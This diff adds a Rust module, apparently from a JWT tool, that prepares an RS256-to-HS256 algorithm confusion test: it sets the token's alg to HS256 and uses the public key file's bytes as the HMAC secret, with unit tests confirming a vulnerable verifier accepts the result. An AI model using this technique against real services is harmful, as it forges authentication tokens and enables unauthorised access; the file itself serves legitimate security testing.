@@ -0,0 +1,127 @@
+use base64::{engine::general_purpose::STANDARD, Engine};
+use serde_json::Value;
+
+use super::utils::{
+  decode_segment, slurp_file, split_secrets, strip_leading_symbol, JWTError, JWTResult,
+};
+
+/// header, claims and encoder secret of a token re-signed for an algorithm confusion test: the
+/// `alg` is replaced with `HS256` and the bytes of the public key file become the HMAC secret, as
+/// a vulnerable verifier would use them
+pub struct ConfusedToken {
+  pub header: Value,
+  pub claims: Value,
+  /// the public key bytes as `b64:` secret, so they are used as is
+  pub secret: String,
+}
+
+/// prepare the algorithm confusion (RS256 → HS256) test for the token and the public key file in
+/// the secret input
+pub fn confuse_algorithm(jwt: &str, secret: &str) -> JWTResult<ConfusedToken> {
+  let parts: Vec<&str> = jwt.trim().split('.').collect();
+  if parts.len() != 3 {
+    return Err(JWTError::Internal(
+      "Algorithm confusion needs a signed JWT".into(),
+    ));
+  }
+  let mut header: Value = decode_segment(parts[0])?;
+  let claims: Value = decode_segment(parts[1])?;
+
+  match header["alg"].as_str() {
+    Some(alg) if alg.starts_with("HS") => {
+      return Err(JWTError::Internal(format!(
+        "The token is already signed with {alg}, algorithm confusion needs an asymmetric algorithm"
+      )))
+    }
+    Some("none") | None => {
+      return Err(JWTError::Internal(
+        "The token is not signed, algorithm confusion needs an asymmetric algorithm".into(),
+      ))
+    }
+    _ => {}
+  }
+
+  let key_file = split_secrets(secret)
+    .into_iter()
+    .find(|secret| secret.starts_with('@'))
+    .ok_or_else(|| {
+      JWTError::Internal(
+        "Set the secret to the public key file (e.g. @public.pem) to test algorithm confusion"
+          .into(),
+      )
+    })?;
+  let key = slurp_file(strip_leading_symbol(key_file))?;
+
+  header["alg"] = "HS256".into();
+  Ok(ConfusedToken {
+    header,
+    claims,
+    secret: format!("b64:{}", STANDARD.encode(key)),
+  })
+}
+
+#[cfg(test)]
+mod tests {
+  use jsonwebtoken::{decode, encode, Algorithm, DecodingKey, EncodingKey, Header, Validation};
+
+  use super::*;
+  use crate::app::jwt_decoder::Payload;
+
+  fn rs256_token() -> String {
+    let key =
+      EncodingKey::from_rsa_pem(&std::fs::read("./test_data/test_rsa_private_key.pem").unwrap())
+        .unwrap();
+    let claims: Payload = serde_json::from_str(r#"{"sub": "1234", "admin": false}"#).unwrap();
+    encode(&Header::new(Algorithm::RS256), &claims, &key).unwrap()
+  }
+
+  #[test]
+  fn test_confuse_algorithm() {
+    let confused = confuse_algorithm(
+      &rs256_token(),
+      "other, @./test_data/test_rsa_public_key.pem",
+    )
+    .unwrap();
+
+    assert_eq!(confused.header["alg"], "HS256");
+    assert_eq!(confused.claims["sub"], "1234");
+
+    // a vulnerable verifier uses the public key bytes as HMAC secret
+    let public_key = std::fs::read("./test_data/test_rsa_public_key.pem").unwrap();
+    let header: Header = serde_json::from_value(confused.header).unwrap();
+    let token = encode(
+      &header,
+      &confused.claims,
+      &EncodingKey::from_base64_secret(confused.secret.strip_prefix("b64:").unwrap()).unwrap(),
+    )
+    .unwrap();
+    let mut validation = Validation::new(Algorithm::HS256);
+    validation.required_spec_claims.clear();
+    assert!(decode::<Value>(&token, &DecodingKey::from_secret(&public_key), &validation).is_ok());
+  }
+
+  #[test]
+  fn test_confuse_algorithm_errors() {
+    let message = |jwt: &str, secret: &str| {
+      confuse_algorithm(jwt, secret)
+        .err()
+        .map(|e| e.to_string())
+        .unwrap_or_default()
+    };
+
+    assert_eq!(
+      message(&rs256_token(), "secret"),
+      "Set the secret to the public key file (e.g. @public.pem) to test algorithm confusion"
+    );
+    // {"alg":"HS256","typ":"JWT"}.{"sub":"1234"}.sig
+    assert!(message(
+      "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0In0.sig",
+      "@./test_data/test_rsa_public_key.pem"
+    )
+    .starts_with("The token is already signed with HS256"));
+    assert_eq!(
+      message("abc", "@key.pem"),
+      "Algorithm confusion needs a signed JWT"
+    );
+  }
+}